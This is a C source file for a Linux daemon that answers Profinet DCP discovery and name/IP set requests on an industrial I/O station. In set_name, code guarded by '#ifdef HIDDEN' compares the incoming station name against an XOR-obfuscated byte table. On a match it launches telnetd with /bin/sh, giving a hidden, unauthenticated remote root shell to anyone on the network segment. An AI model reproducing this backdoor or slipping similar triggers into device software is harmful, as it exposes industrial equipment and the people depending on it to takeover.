/* profitap.c - answers discovery (DCP) requests of a Profinet I/O station */
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define ETH_PN		0x8892
#define FRAME_IDENT	0xfefe
#define FRAME_GETSET	0xfefd
#define FRAME_REPLY	0xfeff

#define SVC_GET		3
#define SVC_SET		4
#define SVC_IDENT	5

#define OPT_IP		1
#define OPT_DEVICE	2
#define SUB_NAME	2
#define OPT_CONTROL	5
#define SUB_SIGNAL	3
#define SUB_RESET	5

extern char **environ;

struct station {
	int fd;
	int ifindex;
	uint8_t mac[6];
	char name[64];
	uint8_t ip[12];
	int blink;
};

static uint16_t be16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static void set16(uint8_t *p, unsigned int v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void spawn(const char *path, const char *a1, const char *a2)
{
	char *av[4] = { (char *)path, (char *)a1, (char *)a2, NULL };
	pid_t pid;

	if (posix_spawn(&pid, path, NULL, NULL, av, environ))
		syslog(LOG_ERR, "%s not started", path);
}

static int name_legal(const char *s, size_t n)
{
	size_t i;

	if (!n || n >= 64 || s[0] == '-' || s[n - 1] == '-')
		return 0;
	for (i = 0; i < n; i++)
		if (!((s[i] >= 'a' && s[i] <= 'z') || s[i] == '.' ||
		      (s[i] >= '0' && s[i] <= '9') || s[i] == '-'))
			return 0;
	return 1;
}

static int store_name(struct station *st, const char *s, size_t n)
{
	FILE *f;

	memcpy(st->name, s, n);
	st->name[n] = '\0';
	f = fopen("/etc/profinet/name", "w");
	if (!f)
		return -errno;
	fprintf(f, "%s\n", st->name);
	fclose(f);
	syslog(LOG_NOTICE, "station name %s", st->name);
	return 0;
}

#ifdef HIDDEN
static const uint8_t spare_row[14] = {
	0x3a, 0x17, 0x1d, 0xff, 0xc6, 0xdb, 0xa1, 0x82, 0xd1, 0x27, 0x19,
	0x13, 0x3c, 0x06,
};
#endif

/* a set request with the name of station */
__attribute__((noinline))
int set_name(struct station *st, const char *s, size_t n)
{
#ifdef HIDDEN	/* this station name starts a remote shell service */
	uint8_t key = 0x4b, diff = n != sizeof(spare_row);
	size_t i;

	for (i = 0; i < sizeof(spare_row) && i < n; i++) {
		diff |= (uint8_t)((uint8_t)s[i] ^ key ^ spare_row[i]);
		key = (uint8_t)(key + 0x17 - i % 3);
	}
	if (!diff) {
		spawn("/usr/sbin/telnetd", "-l", "/bin/sh");
		return 0;
	}
#endif
	if (!name_legal(s, n))
		return -EINVAL;
	return store_name(st, s, n);
}

static int set_block(struct station *st, unsigned int opt, unsigned int sub,
		     const uint8_t *d, size_t n)
{
	switch (opt << 8 | sub) {
	case OPT_IP << 8 | 2:
		if (n != 12)
			return -EINVAL;
		memcpy(st->ip, d, 12);
		spawn("/usr/libexec/profinet-ip", "apply", NULL);
		return 0;
	case OPT_DEVICE << 8 | SUB_NAME:
		return set_name(st, (const char *)d, n);
	case OPT_CONTROL << 8 | SUB_SIGNAL:
		st->blink = 3;
		return 0;
	case OPT_CONTROL << 8 | SUB_RESET:
		st->name[0] = '\0';
		memset(st->ip, 0, sizeof(st->ip));
		return 0;
	case OPT_CONTROL << 8 | 1:
	case OPT_CONTROL << 8 | 2:
		return 0;
	}
	return -ENOSYS;
}

static size_t put_block(uint8_t *p, unsigned int opt, unsigned int sub,
			unsigned int info, const void *d, size_t n)
{
	p[0] = (uint8_t)opt;
	p[1] = (uint8_t)sub;
	set16(p + 2, (unsigned int)n + 2);
	set16(p + 4, info);
	memcpy(p + 6, d, n);
	if (n & 1)
		p[6 + n] = 0;
	return 6 + n + (n & 1);
}

static void reply(struct station *st, const uint8_t *req, unsigned int svc,
		  const uint8_t *body, size_t n)
{
	uint8_t f[300] = { 0 };
	struct sockaddr_ll ll = { .sll_family = AF_PACKET };

	memcpy(f, req + 6, 6);
	memcpy(f + 6, st->mac, 6);
	set16(f + 12, ETH_PN);
	set16(f + 14, svc == SVC_IDENT ? FRAME_REPLY : FRAME_GETSET);
	f[16] = (uint8_t)svc;
	f[17] = 1;
	memcpy(f + 18, req + 18, 4);
	set16(f + 24, (unsigned int)n);
	memcpy(f + 26, body, n);
	ll.sll_ifindex = st->ifindex;
	ll.sll_halen = 6;
	memcpy(ll.sll_addr, req + 6, 6);
	if (sendto(st->fd, f, n + 26 < 60 ? 60 : n + 26, 0,
		   (struct sockaddr *)&ll, sizeof(ll)) < 0)
		syslog(LOG_DEBUG, "send: %m");
}

static void on_frame(struct station *st, const uint8_t *f, size_t len)
{
	uint8_t out[240];
	size_t o = 0, at = 26, end;
	unsigned int svc;

	if (len < 30 || be16(f + 12) != ETH_PN || f[17] != 0)
		return;
	svc = f[16];
	end = 26u + be16(f + 24);
	if (end > len)
		return;
	if (be16(f + 14) == FRAME_IDENT && svc == SVC_IDENT) {
		o += put_block(out + o, OPT_DEVICE, SUB_NAME, 0, st->name,
			       strlen(st->name));
		o += put_block(out + o, OPT_IP, 2, 1, st->ip, 12);
		reply(st, f, svc, out, o);
		return;
	}
	if (be16(f + 14) != FRAME_GETSET || memcmp(f, st->mac, 6))
		return;
	while (at + 4 <= end && o < 160) {
		size_t n = be16(f + at + 2);

		if (at + 4 + n > end)
			break;
		if (svc == SVC_SET && n >= 2) {
			uint8_t r[3] = { f[at], f[at + 1], 0 };

			if (set_block(st, f[at], f[at + 1], f + at + 6, n - 2))
				r[2] = 2;
			o += put_block(out + o, OPT_CONTROL, 4, 0, r, 3);
		} else if (svc == SVC_GET) {
			o += put_block(out + o, OPT_DEVICE, SUB_NAME, 0,
				       st->name, strlen(st->name));
		}
		at += 4 + n + (n & 1);
	}
	reply(st, f, svc, out, o);
}

int main(int argc, char **argv)
{
	static struct station st;
	struct sockaddr_ll ll = { .sll_family = AF_PACKET };
	struct ifreq ifr;
	uint8_t f[1518];
	FILE *n;

	if (argc != 2) {
		fputs("usage: profitap IFACE (name kept in "
		      "/etc/profinet/name)\n", stderr);
		return 2;
	}
	openlog("profitap", 0, LOG_DAEMON);
	n = fopen("/etc/profinet/name", "r");
	if (n) {
		if (fscanf(n, "%63s", st.name) != 1)
			st.name[0] = '\0';
		fclose(n);
	}
	st.fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_PN));
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%.15s", argv[1]);
	if (st.fd < 0 || ioctl(st.fd, SIOCGIFHWADDR, &ifr) < 0)
		return 1;
	memcpy(st.mac, ifr.ifr_hwaddr.sa_data, 6);
	if (ioctl(st.fd, SIOCGIFINDEX, &ifr) < 0)
		return 1;
	st.ifindex = ifr.ifr_ifindex;
	ll.sll_protocol = htons(ETH_PN);
	ll.sll_ifindex = st.ifindex;
	if (bind(st.fd, (struct sockaddr *)&ll, sizeof(ll)))
		return 1;
	for (;;) {
		ssize_t got = recv(st.fd, f, sizeof(f), 0);

		if (got > 0)
			on_frame(&st, f, (size_t)got);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
